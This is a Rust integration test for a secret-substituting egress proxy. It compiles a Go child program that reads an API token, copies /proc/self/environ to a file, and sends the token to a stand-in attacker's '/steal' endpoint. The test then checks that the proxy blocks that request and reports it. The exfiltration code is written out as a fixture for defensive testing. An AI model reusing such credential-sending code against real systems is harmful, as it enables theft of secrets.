//! Issue 18's Go child: a program built with Go's standard library only (`net/http`, trust from
//! `SSL_CERT_FILE`, the proxy from `HTTPS_PROXY`) reaches the API with the value while it holds
//! and prints only the placeholder, and its request to the attacker is blocked and reported.
//! Skipped with a message when `go` is missing, except under `CI=true`, where it fails
//! (`scripts/prereqs.sh` installs Debian's `golang-go`).

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use super::egress::{attacker, bound_home_with, https_api};
use super::harness::*;

/// A value made at test time, shaped like an API key (public prefix `sk-proj-`).
fn fresh_value() -> String {
    let mut b = [0u8; 24];
    getrandom::fill(&mut b).unwrap();
    format!("sk-proj-{}", hex::encode(b))
}

/// The child: `prog API_URL ATTACKER_URL`. Go's `http.ProxyFromEnvironment` never proxies
/// `localhost` or a loopback address (the test's servers are on 127.0.0.1), so the program
/// names the proxy it reads from `HTTPS_PROXY` itself; the TLS roots are Go's system pool,
/// which on Linux is the file `SSL_CERT_FILE` names (the run's bundle).
const PROGRAM: &str = r#"package main

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

func show(what string, resp *http.Response, err error) {
	if err != nil {
		fmt.Println(what, "error")
		return
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	fmt.Printf("%s %d %s %s\n", what, resp.StatusCode, resp.Proto, strings.TrimSpace(string(b)))
}

func main() {
	api, attacker := os.Args[1], os.Args[2]
	key := os.Getenv("API_TOKEN")
	env, _ := os.ReadFile("/proc/self/environ")
	os.WriteFile("environ.txt", env, 0o600)
	fmt.Println("ENV:" + key)
	proxy, err := url.Parse(os.Getenv("HTTPS_PROXY"))
	if err != nil || proxy.Host == "" {
		fmt.Println("no proxy")
		os.Exit(2)
	}
	client := &http.Client{
		Transport: &http.Transport{Proxy: http.ProxyURL(proxy), ForceAttemptHTTP2: true},
		Timeout:   20 * time.Second,
	}
	req, _ := http.NewRequest("GET", api+"/v1/go", nil)
	req.Header.Set("Authorization", "Bearer "+key)
	resp, err := client.Do(req)
	show("API", resp, err)
	req, _ = http.NewRequest("POST", api+"/v1/go-json", strings.NewReader(`{"api_key": "`+key+`"}`))
	req.Header.Set("Content-Type", "application/json")
	resp, err = client.Do(req)
	show("JSON", resp, err)
	req, _ = http.NewRequest("GET", attacker+"/steal", nil)
	req.Header.Set("X-Key", key)
	resp, err = client.Do(req)
	show("STEAL", resp, err)
	fmt.Println("LEN", len(key))
}
"#;

/// `go` on `PATH`, or `None`.
fn find_go() -> Option<PathBuf> {
    std::env::var_os("PATH")
        .iter()
        .flat_map(std::env::split_paths)
        .map(|d| d.join("go"))
        .find(|p| p.is_file())
}

/// Builds [`PROGRAM`] in `dir` (its caches and `GOPATH` there, modules off the network:
/// standard library only). Returns the binary.
fn build(go: &Path, dir: &Path) -> PathBuf {
    let src = dir.join("src");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("go.mod"), "module egresschild\n\ngo 1.19\n").unwrap();
    std::fs::write(src.join("main.go"), PROGRAM).unwrap();
    let bin = dir.join("egress-child");
    let child = Command::new(go)
        .args(["build", "-o"])
        .arg(&bin)
        .arg(".")
        .current_dir(&src)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir)
        .env("GOCACHE", dir.join("gocache"))
        .env("GOPATH", dir.join("gopath"))
        .env("GOFLAGS", "-mod=mod")
        .env("GOPROXY", "off")
        .env("GOSUMDB", "off")
        .env("GOTOOLCHAIN", "local")
        .env("CGO_ENABLED", "0")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let o = wait_output(child, Duration::from_secs(900));
    assert!(
        o.status.success() && bin.is_file(),
        "go build failed: {}",
        text(&o.stderr)
    );
    bin
}

#[test]
#[allow(clippy::print_stderr)] // says why it skips
fn a_go_net_http_child_reaches_the_api_with_the_value_and_holds_only_the_placeholder() {
    let Some(go) = find_go() else {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "go is missing under CI: scripts/prereqs.sh --install installs golang-go"
        );
        eprintln!("SKIPPED: go is not installed (Debian: apt-get install golang-go)");
        return;
    };
    let work = tempfile::tempdir_in("/tmp").unwrap();
    let prog = build(&go, work.path());
    let value = fresh_value();
    let (api, ca_pem, api_seen) = https_api();
    let (att, att_seen) = attacker();
    // The program sends the key in a JSON body too: bound for bodies as well.
    let h = bound_home_with(api, &ca_pem, &value, &["--body"]);
    let o = h.run_approved(
        &[
            "run",
            "--env",
            "demo",
            "--only",
            "API_TOKEN",
            "--cwd",
            work.path().to_str().unwrap(),
            "--",
            prog.to_str().unwrap(),
            &format!("https://localhost:{api}"),
            &format!("http://127.0.0.1:{att}"),
        ],
        Duration::from_secs(90),
    );
    let (out, err) = (text(&o.stdout), text(&o.stderr));
    assert!(out.contains("LEN "), "stdout: {out}\nstderr: {err}");

    // The child held a placeholder: the value's length and public prefix, not the value; its
    // environment (as /proc shows it) holds no form of the value.
    let placeholder = out
        .lines()
        .find_map(|l| l.strip_prefix("ENV:"))
        .unwrap()
        .to_owned();
    assert_eq!(placeholder.len(), value.len());
    assert!(placeholder.starts_with("sk-proj-"));
    assert_ne!(placeholder, value);
    assert!(out.contains(&format!("LEN {}", value.len())), "{out}");
    let environ = std::fs::read(work.path().join("environ.txt")).unwrap();
    assert!(contains(&environ, &format!("API_TOKEN={placeholder}")));
    assert!(contains(&environ, "SSL_CERT_FILE="));
    for enc in encodings(&value) {
        assert!(
            !contains(&environ, &enc),
            "a form of the value in /proc/PID/environ"
        );
    }

    // The API got the value, in the header and in the JSON body, over HTTP/2 from Go to the
    // proxy; the echo came back as the placeholder.
    assert!(
        out.contains(&format!("API 200 HTTP/2.0 ECHO:Bearer {placeholder}")),
        "{out}"
    );
    assert!(out.contains("JSON 200 HTTP/2.0"), "{out}");
    let heads = api_seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 2, "{heads:?}");
    let get = heads.iter().find(|h| h.contains("/v1/go ")).unwrap();
    assert!(get.contains(&format!("Bearer {value}")));
    let json = heads.iter().find(|h| h.contains("/v1/go-json")).unwrap();
    assert!(
        json.ends_with(&format!("{{\"api_key\": \"{value}\"}}")),
        "{json}"
    );
    assert!(!heads.iter().any(|h| h.contains(&placeholder)));

    // The attacker got nothing: blocked (403 from the proxy) and reported.
    assert!(out.contains("STEAL 403"), "{out}");
    assert!(att_seen.lock().unwrap().is_empty());
    assert!(
        err.contains("API_TOKEN") && err.contains(&format!("http://127.0.0.1:{att}")),
        "the blocked placeholder is reported: {err}"
    );
    let audit = h.audit_text();
    assert_eq!(audit.matches("\"egress_request\"").count(), 2, "{audit}");
    assert!(
        audit.contains(&format!("http://127.0.0.1:{att}")) && audit.contains("\"egress_blocked\""),
        "{audit}"
    );

    // No form of the value in what the run printed, the audit, or any file of the home; no
    // placeholder in the audit.
    assert!(!audit.contains(&placeholder));
    let files = h.all_plain_files();
    for enc in encodings(&value) {
        assert!(!contains(&o.stdout, &enc) && !contains(&o.stderr, &enc));
        assert!(
            !contains(&files, &enc),
            "a form of the value is in the home"
        );
    }
}
